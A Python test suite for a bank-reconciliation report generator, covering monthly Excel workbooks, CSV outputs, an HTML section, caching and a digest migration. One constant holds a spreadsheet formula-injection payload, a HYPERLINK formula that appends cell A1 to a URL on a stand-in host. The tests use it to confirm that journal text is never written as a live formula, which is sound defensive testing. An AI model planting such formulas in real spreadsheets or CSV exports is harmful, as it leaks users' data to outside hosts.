"""The book side of the report: a 余额调节表 workbook per month with an A4 sheet per account in the
accountants' form, the same figures in CSV, and a section of the page, as a browser shows it; text
from a journal never becomes a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook

from jobs.app import App
from jobs.ingest import Ingestor
from jobs.reconciling import run_reconcile
from jobs.report import write_report
from store.db import upgrade
from tests.integration.conftest import write_config
from tests.integration.files import ZS_PENSION_INCOME, Row, icbc_csv
from tests.integration.test_book import BANK, MARCH, NAME_RULE, journal
from tests.report.test_html import _chromium, _run

EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"


@pytest.fixture
def reported(tmp_path: Path) -> Path:
    write_config(tmp_path, f"sqlite:///{tmp_path / 'data' / 'recon.db'}", NAME_RULE + '[book]\npreparer = "张会计"\n')
    (tmp_path / "inbox").mkdir()
    app = App(str(tmp_path / "config.toml"))
    upgrade(app.database(checked=False))
    feb = [Row("2008-02-15 10:00:00", 200000, voucher="F1")]
    (tmp_path / "inbox" / f"icbc_{ZS_PENSION_INCOME}_20080201-20080229.csv").write_bytes(icbc_csv(feb))
    (tmp_path / "inbox" / f"icbc_{ZS_PENSION_INCOME}_20080301-20080331.csv").write_bytes(icbc_csv(BANK, opening=200000))
    march = [r.rsplit(",", 1)[0] + f",{float(r.rsplit(',', 1)[1]) + 2000:.2f}" for r in MARCH]
    march[-1] = f"2008-03-31,0004,{EVIL.replace(',', '，')},,500.00,,395499.99"
    (tmp_path / "inbox" / "日记账3月.csv").write_bytes(journal(march, opening="2000.00"))
    (tmp_path / "inbox" / "日记账2月.csv").write_bytes(journal(
        ["2008-02-15,0001,收到养老保险费收入,,2000.00,,2000.00"], period="2008-02-01至2008-02-29"))
    assert Ingestor(app.config, app.registry, app.database()).run(progress=False).rejected == 0
    run_reconcile(app.config, app.registry, app.database(), date(2008, 3, 31))
    res = write_report(app.config, app.registry, app.database(), date(2008, 3, 31), "zh",
                       now=datetime(2008, 4, 1, 1, 30, tzinfo=UTC))
    assert res.folder / "余额调节表_2008-03.xlsx" in res.files
    return res.folder


def test_each_month_has_a_workbook_with_an_a4_sheet_per_account_in_the_accountants_form(reported: Path) -> None:
    assert sorted(p.name for p in reported.glob("余额调节表_*.xlsx")) == ["余额调节表_2008-02.xlsx",
                                                                         "余额调节表_2008-03.xlsx"]
    wb = load_workbook(reported / "余额调节表_2008-03.xlsx")
    assert wb.sheetnames == ["汇总", "钟山区养老收入户"]
    ws = wb["钟山区养老收入户"]
    cells = {c.coordinate: c.value for row in ws.iter_rows() for c in row if c.value is not None}
    assert cells["A1"] == "银行存款余额调节表" and cells["D2"] == "2008 年 3 月 31 日"
    assert ZS_PENSION_INCOME in cells["A3"]
    rows = [tuple(cells.get(f"{col}{r}") for col in "ACDF") for r in (6, 7, 8)]
    assert rows == [("企业银行存款日记账余额", 395499.99, "银行对账单余额", 394984.99),
                    ("加：银行已收、企业未收", 0, "加：企业已收、银行未收", 500),
                    ("减：银行已付、企业未付", 15, "减：企业已付、银行未付", 0)]
    assert cells["C9"] == cells["F9"] == 395484.99 and cells["A11"] == "调节后余额相符。"
    items = [[c.value for c in row] for row in ws.iter_rows(min_row=15, max_row=16)]
    assert items[0][:2] == ["银行已付、企业未付", datetime(2008, 3, 20)] and items[0][4:] == [15, 11]
    assert items[1][0] == "企业已收、银行未收" and items[1][4:] == [500, 0]
    footer = [v for k, v in cells.items() if isinstance(v, str) and v.startswith(("编制人", "审核人"))]
    assert footer == ["编制人：张会计", "审核人：＿＿＿＿＿＿"]
    assert (int(ws.page_setup.paperSize), ws.page_setup.orientation, ws.page_setup.fitToWidth) == (9, "portrait", 1)
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.print_area
    assert wb["汇总"]["C3"].value == "相符" and wb["汇总"]["M3"].value == 2


def test_text_from_a_journal_is_never_a_formula_in_the_workbook_or_the_csv(reported: Path) -> None:
    wb = load_workbook(reported / "余额调节表_2008-03.xlsx")
    texts = [c for row in wb["钟山区养老收入户"].iter_rows() for c in row if isinstance(c.value, str)
             and "HYPERLINK" in c.value]
    assert texts and all(c.data_type == "s" for c in texts)
    raw = (reported / "book_items.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    evil = [r for r in rows if "HYPERLINK" in r[5]]
    assert evil and evil[0][5].startswith("'=")


def test_the_csv_holds_the_same_figures_as_the_workbook(reported: Path) -> None:
    rows = list(csv.DictReader(io.StringIO((reported / "book_statements.csv").read_text(encoding="utf-8-sig"))))
    assert [(r["月份"], r["状态"], r["银行对账单余额"], r["日记账余额"], r["差额"]) for r in rows] == [
        ("2008-02", "相符", "2000.00", "2000.00", "0.00"), ("2008-03", "相符", "394984.99", "395499.99", "0.00")]


def test_the_page_has_a_section_with_the_months_accounts_and_their_state(reported: Path, tmp_path: Path) -> None:
    browser = _chromium()
    dom = BeautifulSoup(_run(browser, tmp_path / "profile", reported / "exceptions.html", "--dump-dom").stdout,
                        "html.parser")
    section = dom.select_one("section#book")
    assert section is not None and "银行存款余额调节表（2008-03）" in section.h2.get_text()
    (row,) = section.select("table.t-book tbody tr")
    cells = [td.get_text() for td in row.select("td")]
    assert cells[0] == ZS_PENSION_INCOME and cells[2] == "相符" and cells[3] == "394,984.99"
    grid = section.select("table.t-book-months tr")
    assert [td.get_text() for td in grid[1].select("td")] == [ZS_PENSION_INCOME, "✓", "✓"]
    assert "余额调节表_2008-03.xlsx" in section.get_text()


def test_a_report_for_an_earlier_day_shows_only_the_months_over_by_then(reported: Path) -> None:
    from jobs.app import App

    app = App(str(reported.parents[1] / "config.toml"))
    res = write_report(app.config, app.registry, app.database(), date(2008, 2, 29), "zh",
                       now=datetime(2008, 4, 1, 2, 0, tzinfo=UTC))
    assert sorted(p.name for p in res.folder.glob("余额调节表_*.xlsx")) == ["余额调节表_2008-02.xlsx"]
    page = (res.folder / "exceptions.html").read_text(encoding="utf-8")
    assert "银行存款余额调节表（2008-02）" in page


def test_a_countys_own_report_shows_only_its_own_accounts(reported: Path) -> None:
    from jobs.app import App

    app = App(str(reported.parents[1] / "config.toml"))
    day = date(2008, 3, 31)
    zs = write_report(app.config, app.registry, app.database(), day, "zh", scope="ZS")
    lz = write_report(app.config, app.registry, app.database(), day, "zh", scope="LZ")
    assert [p.name for p in sorted(zs.folder.glob("余额调节表_*.xlsx"))] == ["余额调节表_2008-02.xlsx",
                                                                            "余额调节表_2008-03.xlsx"]
    assert list(lz.folder.glob("余额调节表_*.xlsx")) == []
    assert ZS_PENSION_INCOME not in (lz.folder / "exceptions.html").read_text(encoding="utf-8")
    assert ZS_PENSION_INCOME in (zs.folder / "exceptions.html").read_text(encoding="utf-8")


def test_a_months_workbook_is_copied_from_the_cache_while_its_statements_stay_the_same(reported: Path,
                                                                                       tmp_path: Path) -> None:
    """A workbook is written once per content: the next report copies it; another preparer (or
    other statements) writes it again, and the cache keeps only the workbooks last used."""
    from dataclasses import replace

    app = App(str(tmp_path / "config.toml"))
    cache = app.config.path("reports") / ".cache" / "book"
    first = sorted(cache.glob("*.xlsx"))
    assert [p.name[:7] for p in first] == ["2008-02", "2008-03"]
    written = {p.name: p.read_bytes() for p in reported.glob("余额调节表_*.xlsx")}
    again = write_report(app.config, app.registry, app.database(), date(2008, 3, 31), "zh",
                         now=datetime(2008, 4, 2, 1, 30, tzinfo=UTC))
    assert sorted(cache.glob("*.xlsx")) == first
    assert {p.name: p.read_bytes() for p in again.folder.glob("余额调节表_*.xlsx")} == written
    other = replace(app.config, book=replace(app.config.book, preparer="李会计"))
    third = write_report(other, app.registry, app.database(), date(2008, 3, 31), "zh",
                         now=datetime(2008, 4, 3, 1, 30, tzinfo=UTC))
    now = sorted(cache.glob("*.xlsx"))
    assert len(now) == 2 and not set(now) & set(first)
    ws = load_workbook(third.folder / "余额调节表_2008-03.xlsx")["钟山区养老收入户"]
    assert "编制人：李会计" in [c.value for row in ws.iter_rows() for c in row]


def _book_section(folder: Path) -> str:
    page = (folder / "exceptions.html").read_text(encoding="utf-8")
    start = page.index('<section id="book"')
    return page[start:page.index("</section>", start)]


def _book_files(folder: Path, members: bool = False) -> dict[str, object]:
    """The book side's files, as bytes; with `members`, each workbook member by member but for
    docProps/core.xml (the time it was written)."""
    from tests.report.test_book_workbook import _members

    return {p.name: _members(p) if members and p.suffix == ".xlsx" else p.read_bytes() for p in sorted(folder.iterdir())
            if p.name.startswith("余额调节表_") or p.name.startswith("book_")}


def test_a_quiet_month_of_history_is_neither_read_nor_written_again(reported: Path, tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """The next night's report reads only the latest month's statements and items and writes no
    workbook; its book files and section are those written the first time, and those written
    again from the statements with the cache gone (issue 18: a night flat in history)."""
    import shutil

    from sqlalchemy import event

    from jobs.report import book
    from store.models import BookItemRow, BookStatementRow

    app = App(str(tmp_path / "config.toml"))
    first, section = _book_files(reported), _book_section(reported)
    loaded: list[tuple[str, str]] = []
    written: list[str] = []

    def load(target: BookStatementRow | BookItemRow, context: object) -> None:
        loaded.append((type(target).__name__, target.month))

    real = book.write_workbook
    # the month of each workbook written (into the cache, whose name starts with the month)
    monkeypatch.setattr(book, "write_workbook",
                        lambda path, *a: (written.append(path.name.removeprefix("余额调节表_")[:7]), real(path, *a)))
    event.listen(BookStatementRow, "load", load)
    event.listen(BookItemRow, "load", load)
    try:
        again = write_report(app.config, app.registry, app.database(), date(2008, 3, 31), "zh",
                             now=datetime(2008, 4, 2, 1, 30, tzinfo=UTC))
    finally:
        event.remove(BookStatementRow, "load", load)
        event.remove(BookItemRow, "load", load)
    assert written == []
    # March's statement and items, and the items outstanding now (month ""): not February's
    assert ("BookStatementRow", "2008-03") in loaded and {month for _, month in loaded} == {"2008-03", ""}
    assert _book_files(again.folder) == first and _book_section(again.folder) == section
    shutil.rmtree(app.config.path("reports") / ".cache")
    third = write_report(app.config, app.registry, app.database(), date(2008, 3, 31), "zh",
                         now=datetime(2008, 4, 3, 1, 30, tzinfo=UTC))
    assert sorted(written) == ["2008-02", "2008-03"]
    assert _book_files(third.folder, members=True) == _book_files(reported, members=True)
    assert _book_section(third.folder) == section


def test_a_stored_statements_digest_is_what_its_row_and_items_give_and_migration_0018_gives_it_again(
        reported: Path, tmp_path: Path) -> None:
    from alembic import command
    from sqlalchemy import select

    from store.books import statement_digest
    from store.db import _alembic_config, session_scope
    from store.models import BookItemRow, BookStatementRow

    engine = App(str(tmp_path / "config.toml")).database(checked=False)

    def digests() -> dict[tuple[str, str], tuple[str | None, str]]:
        with session_scope(engine) as s:
            out = {}
            for r in s.scalars(select(BookStatementRow)):
                items = s.scalars(select(BookItemRow).where(BookItemRow.account == r.account,
                                                            BookItemRow.month == r.month).order_by(BookItemRow.id))
                out[r.account, r.month] = (r.digest, statement_digest(vars(r), [vars(i) for i in items]))
            return out

    before = digests()
    assert len(before) == 2 and all(stored is not None and stored == read for stored, read in before.values())
    command.downgrade(_alembic_config(engine), "0016")
    upgrade(engine)
    assert digests() == before
    # Every row has one whoever wrote it (the report keys a month by its digests alone): the
    # migration above, a first reconcile (the fixture), and a later one that writes its months again.
    app = App(str(tmp_path / "config.toml"))
    run_reconcile(app.config, app.registry, engine, date(2008, 4, 30))
    after = digests()
    assert len(after) >= 2 and all(stored is not None and stored == read for stored, read in after.values())


def test_a_months_workbook_is_a_link_to_the_cached_file_and_a_later_report_leaves_the_cache_whole(
        reported: Path, tmp_path: Path) -> None:
    """The report's workbook is another name of the cached file (not a copy of its bytes: issue 18,
    a quiet month costs no bytes written); a report of the same day written again replaces its names
    and leaves the cached file's bytes as they were."""
    app = App(str(tmp_path / "config.toml"))
    cache = app.config.path("reports") / ".cache" / "book"
    cached = {p.name[:7]: p for p in cache.glob("*.xlsx")}
    before = {month: p.read_bytes() for month, p in cached.items()}
    for month, p in cached.items():
        assert (reported / f"余额调节表_{month}.xlsx").samefile(p)
    again = write_report(app.config, app.registry, app.database(), date(2008, 3, 31), "zh",
                         now=datetime(2008, 4, 1, 1, 30, tzinfo=UTC))
    assert again.folder == reported
    assert [p.name for p in reported.iterdir() if p.name.startswith(".")] == []  # no temporary name left
    for month, p in cached.items():
        assert (reported / f"余额调节表_{month}.xlsx").samefile(p) and p.read_bytes() == before[month]
        assert oct(p.stat().st_mode & 0o777) == "0o640"
